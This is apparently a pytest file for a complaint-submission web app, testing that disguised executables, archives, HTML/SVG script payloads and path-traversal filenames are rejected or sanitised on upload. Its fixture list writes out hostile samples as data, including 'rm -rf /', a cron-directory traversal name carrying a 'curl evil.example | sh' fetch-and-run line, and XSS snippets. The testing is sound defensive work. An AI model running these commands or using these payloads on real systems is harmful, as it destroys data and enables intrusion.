"""Uploads: disguised executables and archives are refused with nothing stored; names never reach the disk."""
from __future__ import annotations

import pytest

from feedback.tables import Attachment, Ticket
from tests.conftest import run_async

TEXT = "Foto jalan berlubang di depan pasar, sudah dua minggu tidak diperbaiki sama sekali"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"
HOSTILE = [
    ("foto.jpg", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 64),  # Windows PE named as a photo
    ("laporan.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),  # ELF named as a PDF
    ("bukti.png", b"#!/bin/sh\nrm -rf / --no-preserve-root\n"),  # script named as an image
    ("scan.pdf.exe", b"MZ" + b"\x00" * 64),
    ("../../../../etc/cron.d/evil.jpg", b"#!/bin/sh\ncurl evil.example | sh\n"),
    ("..\\..\\windows\\system32\\evil.png", b"MZ" + b"\x00" * 64),
    ("foto.jpg", b"PK\x03\x04" + b"\x00" * 64),  # a zip named as a photo
    ("foto.jpg", b"<html><script>alert(1)</script></html>"),  # HTML named as a photo
    ("foto.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
]


def files_under(root):
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


@pytest.mark.parametrize("name, data", HOSTILE, ids=[f"{i}-{n[-12:]}" for i, (n, _) in enumerate(HOSTILE)])
def test_hostile_upload_refused_and_nothing_stored(client, settings, tmp_path, name, data):
    resp = client.post("/submit", data={"kind": "complaint", "text": TEXT, "privacy": "public"},
                       files=[("attachments", (name, data, "image/jpeg"))], follow_redirects=False)
    assert 400 <= resp.status_code < 500, resp.status_code
    assert run_async(Ticket.count()) == 0 and run_async(Attachment.count()) == 0
    assert files_under(settings.upload_dir) == []
    assert not (tmp_path / "etc").exists()


def test_one_bad_file_refuses_the_whole_upload(client, settings):
    resp = client.post("/submit", data={"kind": "complaint", "text": TEXT, "privacy": "public"},
                       files=[("attachments", ("ok.jpg", JPEG, "image/jpeg")), ("attachments", ("x.jpg", b"MZ" + b"\0" * 20, "image/jpeg"))],
                       follow_redirects=False)
    assert resp.status_code == 400
    assert run_async(Ticket.count()) == 0 and files_under(settings.upload_dir) == []


@pytest.mark.parametrize("name", ["../../../../tmp/owned.jpg", "..\\..\\boot.ini.jpg", "/etc/passwd.jpg",
                                  "C:\\Windows\\evil.jpg", "foto.jpg.exe", ".htaccess", "a\x00b.jpg"])
def test_traversal_names_on_real_photos_are_neutralised(client, settings, name):
    resp = client.post("/submit", data={"kind": "complaint", "text": TEXT, "privacy": "public"},
                       files=[("attachments", (name, JPEG, "image/jpeg"))], follow_redirects=False)
    assert resp.status_code == 303, resp.text
    row = run_async(Attachment.select().first())
    assert row["content_type"] == "image/jpeg" and row["filename"].endswith(".jpg")
    for bad in ("/", "\\", "..", "\x00"):
        assert bad not in row["filename"] and bad not in row["storage_key"].replace("/", "", 2)
    stored = files_under(settings.upload_dir)
    assert len(stored) == 1 and stored[0].read_bytes() == JPEG
    assert stored[0].resolve().is_relative_to(settings.upload_dir.resolve())
    assert not any(part in stored[0].name for part in ("owned", "passwd", "boot", "evil"))
